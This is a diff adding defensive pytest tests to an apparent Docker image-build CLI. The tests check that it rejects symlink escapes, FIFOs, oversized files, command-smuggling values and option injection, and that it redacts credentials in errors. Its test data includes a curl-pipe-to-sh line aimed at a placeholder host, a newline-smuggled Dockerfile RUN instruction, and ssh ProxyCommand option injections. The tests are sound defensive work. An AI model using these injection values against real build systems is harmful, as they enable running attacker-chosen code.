@@ -427,3 +427,476 @@ def clean(result) -> None:  # type: ignore[no-untyped-def]
     assert result.exit_code != 1, result.output[-2000:]
     assert "Traceback" not in result.output and "unexpected error" not in result.output
     assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
+
+
+# --- what a recipe's app: section, its code folder and its pyproject.toml name -----------------------------------
+# Each case builds a recipe folder (`r.yaml` extends cpu, a code folder `code/` holding train.py) with something
+# hostile in it, then runs the commands a user runs: `lock --offline` (resolution: the program, the pyproject's
+# name) and `render` (the code folder's files). Nothing is ever read outside the recipe's folder or the code folder,
+# nothing is read unbounded, a FIFO never hangs the command, and whatever reaches the Dockerfile is checked first.
+
+
+def _fifo(p: Path) -> None:
+    os.mkfifo(p)
+
+
+def _sparse(p: Path, size: int) -> None:
+    with p.open("wb") as f:
+        f.truncate(size)  # a hole: no disk used, and never read
+
+
+def _pyproject(name: str) -> Callable[[Path], None]:
+    return lambda d: (d / "code" / "pyproject.toml").write_text(f'[project]\nname = "{name}"\nversion = "1"\n')
+
+
+# case -> (what to make in the recipe folder d, the recipe's app section, the command, exit code, what it says)
+APP_CASES: dict[str, tuple[Callable[[Path], Any], str, str, int, str]] = {
+    "code: a link loop": (
+        lambda d: (d / "code" / "loop").symlink_to("loop"),
+        "{code: {dir: code}}",
+        "render",
+        6,
+        "loop is a link that",
+    ),  # found: exit 1, RuntimeError
+    "code: a link to /dev/zero": (
+        lambda d: (d / "code" / "z").symlink_to("/dev/zero"),
+        "{code: {dir: code}}",
+        "render",
+        6,
+        "z is a link to",
+    ),
+    "code: a FIFO": (lambda d: _fifo(d / "code" / "f"), "{code: {dir: code}}", "render", 6, "is a FIFO"),
+    "code: a link to a FIFO inside": (
+        lambda d: (_fifo(d / "code" / "f"), (d / "code" / "g").symlink_to("f")),
+        "{code: {dir: code, ignore: [f]}}",
+        "render",
+        6,
+        "g is not copied",
+    ),
+    "code: a link to the root folder": (
+        lambda d: (d / "code" / "all").symlink_to("/"),
+        "{code: {dir: code}}",
+        "render",
+        6,
+        "all is a link to /",
+    ),
+    "code: a link to a folder inside": (
+        lambda d: (d / "code" / "sub").mkdir() or (d / "code" / "again").symlink_to("sub"),
+        "{code: {dir: code}}",
+        "render",
+        6,
+        "link to the folder",
+    ),
+    "code: a 300 MiB sparse file": (
+        lambda d: _sparse(d / "code" / "big.bin", 300 << 20),
+        "{code: {dir: code}}",
+        "render",
+        6,
+        "more than 20000",
+    ),  # found: read whole before the total was checked
+    "code: a file name with a newline": (
+        lambda d: (d / "code" / "a\nRUN x").write_text(""),
+        "{code: {dir: code}}",
+        "render",
+        6,
+        "one printable line",
+    ),
+    "code: the folder is a link loop": (
+        lambda d: shutil.rmtree(d / "code") or (d / "code").symlink_to("code"),
+        "{code: {dir: code}}",
+        "lock",
+        3,
+        "symbolic link loop",
+    ),
+    "code: the folder holds the home folder": (lambda d: None, "{code: {dir: .}}", "lock", 3, "home folder"),
+    "program: up and out": (
+        lambda d: None,
+        "{code: {dir: code}, program: ../r.yaml}",
+        "lock",
+        5,
+        "not in the code folder",
+    ),  # found: train's default program was /opt/ml/code/../r.yaml
+    "program: a link out": (
+        lambda d: (d / "code" / "p.py").symlink_to(d / "r.yaml"),
+        "{code: {dir: code}, program: p.py}",
+        "lock",
+        5,
+        "outside",
+    ),
+    "program: ignored": (
+        lambda d: None,
+        "{code: {dir: code, ignore: ['*.py']}, program: train.py}",
+        "lock",
+        5,
+        "left out of the image",
+    ),  # found: locked, and the image had no program
+    "pyproject: a name with a newline": (
+        _pyproject("x\\nRUN curl -s http://example.invalid | sh"),
+        "{code: {dir: code, install: true}}",
+        "lock",
+        5,
+        "[project] name: expected a distribution name",
+    ),  # found: the name reached a comment line of the Dockerfile, and the line after it was an instruction
+    "pyproject: a name that is an option": (
+        _pyproject("--index-url=http://example.invalid"),
+        "{code: {dir: code, install: true}}",
+        "lock",
+        5,
+        "[project] name",
+    ),
+    "pyproject: a FIFO": (
+        lambda d: _fifo(d / "code" / "pyproject.toml"),
+        "{code: {dir: code, install: true}}",
+        "lock",
+        5,
+        "is a FIFO",
+    ),  # found: waited forever for a writer
+    "pyproject: a link to /dev/zero": (
+        lambda d: (d / "code" / "pyproject.toml").symlink_to("/dev/zero"),
+        "{code: {dir: code, install: true}}",
+        "lock",
+        5,
+        "outside",
+    ),
+    "pyproject: 2 MiB (sparse)": (
+        lambda d: _sparse(d / "code" / "pyproject.toml", 2 << 20),
+        "{code: {dir: code, install: true}}",
+        "lock",
+        5,
+        "over the 1 MiB",
+    ),  # found: read whole
+    "requirements file: a FIFO": (lambda d: _fifo(d / "req.txt"), "{requirements: req.txt}", "lock", 3, "is a FIFO"),
+    "requirements file: 2 MiB (sparse)": (
+        lambda d: _sparse(d / "req.txt", 2 << 20),
+        "{requirements: req.txt}",
+        "lock",
+        3,
+        "over the 1 MiB",
+    ),  # found: read whole
+    "requirements file: a link loop": (
+        lambda d: (d / "req.txt").symlink_to("req.txt"),
+        "{requirements: req.txt}",
+        "lock",
+        3,
+        "symbolic link loop",
+    ),
+    "requirements file: a link to /dev/zero": (
+        lambda d: (d / "req.txt").symlink_to("/dev/zero"),
+        "{requirements: req.txt}",
+        "lock",
+        3,
+        "outside",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(APP_CASES))
+def test_hostile_app_folders(tmp_path: Path, case: str) -> None:
+    make, app_text, command, code, says = APP_CASES[case]
+    d = tmp_path / "home"
+    (d / "code").mkdir(parents=True)
+    (d / "code" / "train.py").write_text("print('training')\n")
+    (d / "r.yaml").write_text(f"extends: cpu\napp: {app_text}\n")
+    make(d)
+    env = {"HOME": str(d)} if "home folder" in case else {}  # HOME elsewhere: uv's cache is under it
+    args = ["lock", str(d / "r.yaml"), "--offline"] if command == "lock" else ["render", str(d / "r.yaml")]
+    if command == "render":
+        locked = runner.invoke(app, ["lock", str(d / "r.yaml"), "--offline"], env=env)
+        assert locked.exit_code == 0, locked.output[-2000:]
+    result = runner.invoke(app, args, env=env)
+    clean(result)
+    assert result.exit_code == code, result.output[-2000:]
+    assert says in flat(result.output), result.output[-2000:]
+    assert "RUN curl" not in result.stdout
+
+
+def test_a_program_in_the_code_folder_is_trains_default(tmp_path: Path) -> None:
+    """The rules above refuse only what leaves the folder: `./sub/../train.py` is train.py."""
+    (tmp_path / "code" / "sub").mkdir(parents=True)
+    (tmp_path / "code" / "train.py").write_text("print('training')\n")
+    (tmp_path / "r.yaml").write_text("extends: cpu\napp: {code: {dir: code}, program: ./sub/../train.py}\n")
+    assert runner.invoke(app, ["lock", str(tmp_path / "r.yaml"), "--offline"]).exit_code == 0
+    result = runner.invoke(app, ["render", str(tmp_path / "r.yaml")])
+    assert result.exit_code == 0, result.output[-2000:]
+    assert "train runs /opt/ml/code/train.py when the job names no program" in result.stdout
+
+
+def test_the_code_probe_never_reads_outside_the_tree_nor_a_fifo(tmp_path: Path) -> None:
+    """verify's probe (probes/codetree.py, run as it runs in the container): a link out of the folder is an entry of
+    its own, never read; a FIFO is never opened (the probe would wait for a writer)."""
+    from imgbuild.probes import codetree
+
+    (tmp_path / "tree").mkdir()
+    (tmp_path / "tree" / "train.py").write_text("print('training')\n")
+    (tmp_path / "secret").write_text("key\n")
+    os.mkfifo(tmp_path / "tree" / "fifo")
+    probe = [sys.executable, codetree.__file__, str(tmp_path / "tree")]
+    before = json.loads(subprocess.run(probe, capture_output=True, text=True, timeout=60, check=True).stdout)
+    assert before["files"] == 1
+    (tmp_path / "tree" / "key").symlink_to(tmp_path / "secret")
+    after = json.loads(subprocess.run(probe, capture_output=True, text=True, timeout=60, check=True).stdout)
+    sha = codetree.file_sha256(str(tmp_path / "tree" / "train.py"))
+    assert after["digest"] == codetree.digest([("train.py", False, sha), ("key", False, "outside")])
+
+
+# --- what a user gives never becomes an option of another program ------------------------------------------------
+
+# (arguments, environment, exit code, what the message says)
+OPTION_INJECTION: dict[str, tuple[list[str], dict[str, str], int, str]] = {
+    # testinfra hands the host to ssh with no `--`: `ssh ... -oProxyCommand=x cmd` would run x
+    "verify --host ssh://-oProxyCommand=x": (["verify", "cpu", "--host", "ssh://-oProxyCommand=x"], {}, 11, "'-'"),
+    "verify --host ssh://-E.log@h": (["verify", "cpu", "--host", "ssh://-E.log@h"], {}, 11, "'-'"),  # found: ran ssh
+    # the docker CLI hands an ssh DOCKER_HOST's user and host to ssh
+    "DOCKER_HOST=ssh://-oProxyCommand=x": (["build", "cpu"], {"DOCKER_HOST": "ssh://-oProxyCommand=x"}, 8, "'-'"),
+    "DOCKER_HOST=ssh://-x@h": (["build", "cpu"], {"DOCKER_HOST": "ssh://-x@h"}, 8, "'-'"),
+    "run --image=--privileged": (["run", "cpu", "--print", "--image=--privileged"], {}, 2, "--image"),  # found: 0
+    "sbom --image=--x": (["sbom", "cpu", "--image=--x"], {}, 2, "--image"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(OPTION_INJECTION))
+def test_no_value_becomes_an_option_of_another_program(case: str) -> None:
+    args, env, code, says = OPTION_INJECTION[case]
+    result = runner.invoke(app, args, env=env)
+    clean(result)
+    assert result.exit_code == code, result.output[-2000:]
+    assert says in flat(result.output)
+    assert "--privileged" not in result.stdout  # `run --print` printed a docker line with it before
+
+
+def test_ssh_to_the_hosts_of_a_live_check_ends_its_options_before_the_host() -> None:
+    """`cluster test`'s ssh command lines: `--` before the host, whatever comes after it (the remote command)."""
+    from imgbuild.cluster import live
+
+    nodes = live.SshNodes(["h1"], port=3022, user="root", key=None)
+    try:
+        argv = nodes._argv("h1", "-O", "exit")
+        assert argv[-2:] == ["--", "h1"] and argv.index("-O") < argv.index("--")
+        with pytest.raises(ValueError, match="starting with '-'"):
+            nodes._argv("-oProxyCommand=x")
+    finally:
+        nodes.close()
+
+
+# --- no credentials in any error ----------------------------------------------------------------------------------
+
+SECRET = "s3kr1t-t0ken"
+# (arguments, environment, exit code); each names SECRET somewhere a message could quote it
+CREDENTIALS: dict[str, tuple[list[str], dict[str, str], int]] = {
+    "--cache-from type=registry,ref=": (
+        ["build", "cpu", "--cache-from", f"type=registry,ref=u:{SECRET}@r.io/c"],
+        {},
+        2,
+    ),
+    "--cache-from USER:PASSWORD@": (["build", "cpu", "--cache-from", f"u:{SECRET}@r.io/c:1"], {}, 2),  # found
+    "--cache-to https://USER:TOKEN@": (["build", "cpu", "--cache-to", f"https://u:{SECRET}@r.io/c:1"], {}, 2),  # found
+    "--cache-to https://TOKEN@": (["build", "cpu", "--cache-to", f"https://{SECRET}@r.io/c:1"], {}, 2),  # found
+    "--registry USER:PASSWORD@": (["push", "cpu", "--registry", f"u:{SECRET}@r.io"], {}, 2),
+    "verify --host ssh://USER:PASSWORD@": (["verify", "cpu", "--host", f"ssh://u:{SECRET}@h"], {}, 11),  # found
+    "DOCKER_HOST ssh password": (["build", "cpu"], {"DOCKER_HOST": f"ssh://u:{SECRET}@127.0.0.1:1"}, 8),  # found
+    "DOCKER_HOST tcp password": (["build", "cpu"], {"DOCKER_HOST": f"tcp://u:{SECRET}@127.0.0.1:1"}, 8),  # found
+    "doctor DOCKER_HOST password": (["doctor", "cpu", "--json"], {"DOCKER_HOST": f"tcp://u:{SECRET}@h:1"}, 13),  # found
+    "bootstrap --mirror with a password": (
+        ["base", "bootstrap", "debian:12", "--mirror", f"http://u:{SECRET}@m/debian x"],
+        {},
+        2,
+    ),
+    "an index URL with a password": (  # found: outdated's table and --json quoted the index page's URL
+        ["outdated", "cpu", "--json"],
+        {
+            "IMGBUILD_INDEX_URL": f"http://u:{SECRET}@127.0.0.1:9/simple",
+            "UV_DEFAULT_INDEX": f"http://u:{SECRET}@127.0.0.1:9/simple",
+            "IMGBUILD_INDEX_DEADLINE": "5",
+            "NO_PROXY": "127.0.0.1",
+        },
+        0,
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(CREDENTIALS))
+def test_no_error_prints_a_credential(case: str) -> None:
+    args, env, code = CREDENTIALS[case]
+    result = runner.invoke(app, args, env=env)
+    clean(result)
+    if code:
+        assert result.exit_code == code, result.output[-2000:]
+    assert SECRET not in result.output
+    assert "***" in result.output or "credentials" in result.output or "password" in result.output, result.output
+
+
+def test_redaction_keeps_what_is_no_secret() -> None:
+    from imgbuild.core.validate import redact
+
+    digest = "debian:bookworm@sha256:" + "a" * 64
+    kept = [digest, "ssh://ubuntu@10.0.0.1:22", "pkg:pypi/torch@2.9.1", "r.io:5000/team/x:1", "a@b"]
+    assert [redact(t) for t in kept] == kept
+    assert redact("http://u:p@ss@h/x and https://tok@h") == "http://u:***@h/x and https://***@h"
+
+
+# --- DOCKER_HOST: every documented form, and the malformed ones named -----------------------------------------------
+
+
+def test_docker_host_ssh_is_reached_not_refused_for_want_of_paramiko() -> None:
+    """docker-py needs paramiko for ssh://; a plain `pip install imgbuild` brings it (docker[ssh])."""
+    result = runner.invoke(app, ["build", "cpu"], env={"DOCKER_HOST": "ssh://nobody@127.0.0.1:1"})
+    clean(result)
+    assert result.exit_code == 8, result.output
+    assert "cannot reach the Docker engine at DOCKER_HOST=ssh://nobody@127.0.0.1:1" in flat(result.output)
+    assert "paramiko" not in result.output  # found: "Install paramiko package to enable ssh:// support"
+
+
+@pytest.mark.parametrize("host", ["tcp//x", "foo://", "tcp://h:70000", "ssh://", "tcp://[::1:2375"])
+def test_doctor_names_a_malformed_docker_host_and_its_forms(host: str) -> None:
+    result = runner.invoke(app, ["doctor", "cpu", "--json"], env={"DOCKER_HOST": host})
+    clean(result)
+    assert result.exit_code == 13, result.output[-2000:]
+    doc = json.loads(result.stdout)
+    engine_row = next(c for c in doc["checks"] if c["name"] == "engine")
+    assert "engine" in doc["failed"] and engine_row["status"] == "missing"
+    for form in ("unix:///", "tcp://HOST:PORT", "ssh://[USER@]HOST", "npipe://"):
+        assert form in engine_row["detail"], engine_row["detail"]  # found: "no Docker engine answers at ..."
+
+
+# --- every output option writes like `cluster report`'s -----------------------------------------------------------
+
+JOB = ["cluster", "job", "cpu", "-e", "slurm", "-n", "2", "--image", "r.io/team/cpu:1"]
+
+
+def test_an_output_path_relative_to_the_working_folder_is_written_whole(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    monkeypatch.chdir(tmp_path)
+    result = runner.invoke(app, [*JOB, "-o", "job.sbatch", "--", "train.py"])
+    clean(result)
+    assert result.exit_code == 0, result.output
+    assert "train.py" in (tmp_path / "job.sbatch").read_text()
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["job.sbatch"]  # no temporary file beside it
+
+
+@pytest.mark.parametrize("where", ["under /proc", "a missing folder", "a folder"])
+def test_an_unwritable_output_is_exit_14_naming_it(tmp_path: Path, where: str) -> None:
+    target = {"under /proc": "/proc/imgbuild-out", "a missing folder": str(tmp_path / "nope" / "x"),
+              "a folder": str(tmp_path)}[where]  # fmt: skip
+    result = runner.invoke(app, [*JOB, "-o", target, "--", "train.py"])
+    clean(result)
+    assert result.exit_code == 14, result.output  # found: exit 3 (RecipeError), or 1 for a folder
+    assert f"{target}: cannot write the job" in flat(result.output)
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.docker
+def test_sources_fetch_into_an_unwritable_folder_is_exit_14(tmp_path: Path, docker_client) -> None:  # type: ignore[no-untyped-def]
+    result = runner.invoke(app, ["sources", "fetch", "cpu", "-o", "/proc/imgbuild-sources"])
+    clean(result)
+    assert result.exit_code == 14, result.output  # found: exit 1 (PermissionError)
+    assert "/proc/imgbuild-sources: cannot write the sources" in flat(result.output)
+
+
+@pytest.mark.docker
+def test_sbom_to_an_unwritable_path_is_exit_14(tmp_path: Path, cpu_image) -> None:  # type: ignore[no-untyped-def]
+    result = runner.invoke(app, ["sbom", "cpu", "-o", "/proc/imgbuild.cdx.json"])
+    clean(result)
+    assert result.exit_code == 14, result.output  # found: exit 1
+    assert "/proc/imgbuild.cdx.json: cannot write the SBOM" in flat(result.output)
+
+
+# --- a black-holed index, and SIGTERM while the index is awaited -------------------------------------------------
+
+
+class BlackHole:
+    """A TCP server on 127.0.0.1 that accepts every connection and never answers."""
+
+    def __init__(self) -> None:
+        import socket
+
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(128)
+        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}/simple"
+        self.accepted = threading.Event()
+        self.conns: list[Any] = []
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self) -> None:
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            self.conns.append(conn)
+            self.accepted.set()
+
+    def close(self) -> None:
+        self.sock.close()
+        for conn in self.conns:
+            conn.close()
+
+
+@pytest.fixture
+def black_hole() -> Any:
+    hole = BlackHole()
+    yield hole
+    hole.close()
+
+
+def index_env(hole: BlackHole, tmp_path: Path, deadline: str) -> dict[str, str]:
+    (tmp_path / "tmp").mkdir(exist_ok=True)
+    return {
+        **os.environ,
+        "IMGBUILD_INDEX_URL": hole.url,
+        "UV_DEFAULT_INDEX": hole.url,
+        "UV_INDEX_URL": hole.url,
+        "UV_CACHE_DIR": str(tmp_path / "uv-cache"),
+        "IMGBUILD_INDEX_DEADLINE": deadline,
+        "NO_PROXY": "127.0.0.1",
+        "no_proxy": "127.0.0.1",
+        "TMPDIR": str(tmp_path / "tmp"),  # uv's and imgbuild's temporary folders: all must be gone at the end
+    }
+
+
+def test_uv_meets_the_index_deadline_retries_included(tmp_path: Path, black_hole: BlackHole) -> None:
+    """uv retries on its own (3 times, 30 s a request): with IMGBUILD_INDEX_DEADLINE=3 the lock ends by then."""
+    import time
+
+    shutil.copy(REPO / "recipes" / "cpu.yaml", tmp_path / "cpu.yaml")
+    start = time.monotonic()
+    done = subprocess.run(
+        [sys.executable, "-m", "imgbuild", "lock", str(tmp_path / "cpu.yaml")],
+        env=index_env(black_hole, tmp_path, "3"), capture_output=True, text=True, timeout=120,
+    )  # fmt: skip
+    took = time.monotonic() - start
+    assert done.returncode == 7, done.stderr[-2000:]
+    assert "did not finish within 3 s (IMGBUILD_INDEX_DEADLINE=3)" in flat(done.stderr)  # found: 600 s
+    assert black_hole.accepted.is_set() and took < 30, took
+    assert not (tmp_path / "cpu.lock.json").exists() and list((tmp_path / "tmp").iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    "command", [["lock"], ["lock", "--upgrade"], ["outdated"]], ids=["lock", "lock --upgrade", "outdated"]
+)
+def test_sigterm_while_the_index_is_awaited_leaves_the_recipe_and_lock_whole(
+    tmp_path: Path, black_hole: BlackHole, command: list[str]
+) -> None:
+    """A real `imgbuild` process, SIGTERMed while uv (or the index lookup) waits on an index that never answers:
+    exit 143, the recipe and its lock byte for byte as they were, no temporary file beside them or in TMPDIR."""
+    import signal
+
+    work = tmp_path / "recipes"
+    work.mkdir()
+    shutil.copy(REPO / "recipes" / "cpu.yaml", work / "cpu.yaml")
+    shutil.copy(REPO / "recipes" / "cpu.lock.json", work / "cpu.lock.json")
+    before = {p.name: p.read_bytes() for p in work.iterdir()}
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "imgbuild", command[0], str(work / "cpu.yaml"), *command[1:]],
+        env=index_env(black_hole, tmp_path, "300"), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+    )  # fmt: skip
+    try:
+        assert black_hole.accepted.wait(60), "the command never reached the index"
+        proc.send_signal(signal.SIGTERM)
+        _, stderr = proc.communicate(timeout=60)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+    assert proc.returncode == 143, stderr[-2000:]  # found: -15, killed where it stood
+    assert "terminated (SIGTERM)" in stderr and "Traceback" not in stderr
+    assert {p.name: p.read_bytes() for p in work.iterdir()} == before
+    assert list((tmp_path / "tmp").iterdir()) == []
